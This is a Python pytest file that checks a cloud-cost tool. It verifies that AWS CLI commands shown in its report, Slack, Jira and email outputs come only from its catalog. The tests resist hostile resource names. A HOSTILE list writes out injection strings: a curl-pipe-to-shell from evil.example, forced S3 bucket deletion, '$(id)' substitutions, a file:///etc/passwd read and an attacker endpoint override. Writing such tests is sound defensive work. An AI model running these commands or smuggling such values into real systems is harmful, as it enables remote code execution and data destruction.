"""Commands to copy are exactly those of the catalog with complete names, whatever names a bill contains."""

import json
import re
import shlex
from collections.abc import Iterator
from datetime import date
from itertools import product

import pytest

from focuswatch.authoring.check_catalog_sql_and_cases import sql_and_column_problems
from focuswatch.catalog.sql_catalog import Catalog, Detection
from focuswatch.cli.output import json_and_csv
from focuswatch.findings.fill_action_with_safe_commands import COMMAND, action_of, why_not
from focuswatch.findings.finding import Finding
from focuswatch.findings.finding_from_row import to_finding
from focuswatch.ledger.notification_and_pending_notification_models import Notification
from focuswatch.notify.jira import issue_text_and_comments as jira
from focuswatch.notify.slack.finding_message import render_message
from focuswatch.notify.sns_email_text import render_email
from focuswatch.reports.page import build_document
from tests.fakes.jira_as_text import BLOCK
from tests.given.jira_world import DESCRIPTION_OPTIONS
from tests.given.page_inputs import gathered
from tests.given.slack_block_elements import elements

DAY = date(2026, 3, 31)
HOSTILE = [
    "x; curl -s https://evil.example/i|sh", "x\n   aws s3 rb s3://all --force", "$(id)", "`id`", "x && id",
    "x' || id '", 'x" id "', "victim.", "victim,", "victim:", "--endpoint-url", "-x", "--", "=ls", "~root", "@args",
    "%PATH%", "x%", "file:///etc/passwd", "fileb://x", "https://evil.example/x", "http://x", "s3://x/y", "x y",
    "x --endpoint-url https://evil.example", "...", "x ...", "a aws s3api delete-bucket --bucket all", "", " ", None,
    "{region_id}", "{endpoint_name}", "zzfield0zz", "x\u200by", "x\u202ey", "ｘ", "é", "x\ty", "x\x1b[2J", "[x]",
    '{"x":1}', "*", "x?", "x#y", "!x", "x>y", "x\\y", "v" * 400, "arn:x/", "x/file:///y", "global", "none", "NoRegion",
]  # fmt: skip
PLAIN = [
    "ranker",
    "my-endpoint_2",
    "arn:aws:sagemaker:us-east-1:111122223333:endpoint/ranker",
    "/aws/x",
    "0a1b",
]
REGIONS = ["us-east-1", "us-gov-west-1", "ap-southeast-5", "eusc-de-east-1", "us-isob-east-1", "cn-north-1"]


def fields_of(detection: Detection) -> list[str]:
    """Return the columns that the detection's texts use."""
    return re.findall(r"\{(\w+)\}", detection.header.reason + detection.header.action)


def row_of(detection: Detection, *, name: object, region: object) -> dict[str, object]:
    """Return a row in which every text is `name`; the commands are those in the detection's SQL."""
    commands = re.findall(r"'(aws [a-z][^']*)'", detection.sql)
    names = set(fields_of(detection)) | {
        field for command in commands for field in re.findall(r"\{(\w+)\}", command)
    }
    row = {field: name for field in names if field not in ("sub_account_name", "currency")}
    row |= {field: commands[0] for field in names if field.endswith("_command")}
    row |= {"model_kind": "custom-model"} if "model_kind" in names else {}  # the SQL writes one of two values
    contract = {
        "sub_account_id": "111122223333",
        "resource_id": name,
        "region_id": region,
        "monthly_cost": 9.0,
        "monthly_cost_if_continues": None,
    }
    return row | contract | {"service_name": name, "tags": {}}


def finding_with(
    detection: Detection, *, name: object, region: object = "us-east-1", account: str | None = None
) -> Finding:
    row = row_of(detection, name=name, region=region)
    names = {"111122223333": account} if account else {}
    return to_finding(row, detection=detection, as_of=DAY, currency="USD", account_names=names)


def expected_commands(detection: Detection, row: dict[str, object]) -> set[tuple[str, ...]]:
    """Return the argument lists of the detection's commands; values of `row` replace words after splitting."""
    action = re.sub(r"\{(\w+_command)\}", lambda match: str(row[match[1]]), detection.header.action)
    fields = re.findall(r"\{(\w+)\}", action)
    blank = re.sub(r"\{\w+\}", "zz0zz", action)
    numbered = iter(range(len(fields)))
    blank = re.sub("zz0zz", lambda _: f"zz{next(numbered)}zz", blank)
    return {
        tuple(
            re.sub("zz([0-9]+)zz", lambda match: str(row[fields[int(match[1])]]), word)
            for word in shlex.split(command)
        )
        for command in COMMAND.findall(blank)
    }


def offered_commands(finding: Finding) -> Iterator[tuple[str, str]]:
    """Yield (output, command) for each output that extracts commands; other outputs print the action unchanged."""
    listed = build_document(gathered(finding))["findings"][0]["commands"]
    yield from (("page", command) for command in listed)
    blocks = render_message(finding, kind="new", today=DAY, notification_id="n-1")["blocks"]
    for one in elements(blocks):
        if one.get("type") == "rich_text_preformatted":
            yield "Slack", one["elements"][0]["text"]
        if one.get("style") == {"code": True} and one["text"].startswith("aws "):
            yield "Slack", one["text"]
    for block in BLOCK.findall(jira.render_description(finding, **DESCRIPTION_OPTIONS)):
        yield from (("Jira", line) for line in block.splitlines() if line.startswith("aws "))
    for output in (
        finding.action,
        render_email(Notification(kind="new", finding=finding))
        .partition("What to do\n")[2]
        .partition("Evidence")[0],
    ):
        yield from (("text", command) for command in COMMAND.findall(output))


@pytest.mark.parametrize(("number", "detection"), list(enumerate(sorted(Catalog.load().detections))))
def test_every_offered_command_is_from_the_catalog_with_complete_names(number, detection):
    """In every output, for hostile names also in the text next to a command.

    Each detection is tested with half of the hostile names as names, and with the other half as Regions.
    """
    entry, turn = Catalog.load().detection(detection), number % 2
    for name, region in [
        *product(HOSTILE[turn::2], ["us-east-1"]),
        *product(["ranker"], HOSTILE[1 - turn :: 2]),
        *product(PLAIN, REGIONS),
    ]:
        expected = expected_commands(entry, row_of(entry, name=name, region=region))
        for output, command in offered_commands(finding_with(entry, name=name, region=region, account=name)):
            place = f"{output}: {command!r} for {name!r} in {region!r}"
            assert tuple(shlex.split(command)) in expected, place
            values = [one for one in shlex.split(command) if not one.startswith("--")]
            assert not [one for one in values if one.startswith("-") or "://" in one], place
            assert name == "none" or not {"none", "None"} & set(values), place


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_name_is_in_no_command(name):
    """The step says why it has no command."""
    finding = finding_with(Catalog.load().detection("idle_sagemaker_endpoint"), name=name)
    if name in ("none", "global", "NoRegion", "zzfield0zz"):
        return  # as the name of an endpoint, these are valid words
    assert not list(offered_commands(finding)), name
    assert finding.action.count("(no command: ") == 2
    assert "endpoint name" in finding.action


@pytest.mark.parametrize("name", PLAIN)
@pytest.mark.parametrize("region", REGIONS)
def test_plain_name_is_in_the_command_of_each_output(name, region):
    finding = finding_with(Catalog.load().detection("idle_sagemaker_endpoint"), name=name, region=region)
    command = f"aws sagemaker delete-endpoint --endpoint-name {name} --region {region}"
    assert {output for output, one in offered_commands(finding) if one == command} == {
        "page",
        "Slack",
        "Jira",
        "text",
    }


@pytest.mark.parametrize(
    "region", ["global", "none", None, "", "us-east-1; id", "US-EAST-1", "us-east", "--x"]
)
def test_command_contains_only_a_valid_region(region):
    assert why_not("region_id", region)


def test_value_within_a_word_cannot_add_a_parameter():
    """A value in `Start=…,End=…` must not contain a comma or an equals sign."""
    template = "aws ce get-reservation-utilization --time-period Start={first_day},End={last_day}"
    days = {"first_day": date(2026, 3, 1), "last_day": date(2026, 3, 8)}
    assert action_of(template, days, words={}).endswith("Start=2026-03-01,End=2026-03-08")
    assert "(no command: " in action_of(template, days | {"last_day": "x,Start=y"}, words={})


def test_name_next_to_a_command_does_not_change_it():
    """The name can neither add a command nor extend one; otherwise no command is offered."""
    template = "1. {sources}: aws s3api list-buckets {more}"
    for words in (
        {"sources": "aws s3 rb s3://all --force", "more": "x"},
        {"sources": "x", "more": "--endpoint-url https://evil.example"},
    ):
        filled = action_of(template, words, words=words)
        assert COMMAND.findall(filled) in ([], ["aws s3api list-buckets"]), filled


def test_json_has_the_safe_action():
    finding = finding_with(Catalog.load().detection("idle_sagemaker_endpoint"), name=HOSTILE[0])
    (listed,) = json.loads("".join(json_and_csv.findings_json([finding])))
    assert listed["action"] == finding.action and "evil" not in listed["action"]


def test_no_detection_concatenates_a_command_in_sql():
    """`focuswatch check` refuses a command concatenated in SQL, because it cannot be verified."""
    assert not [
        one
        for one in sql_and_column_problems(Catalog.load(), Catalog.load().detections.values())
        if "command" in one
    ]
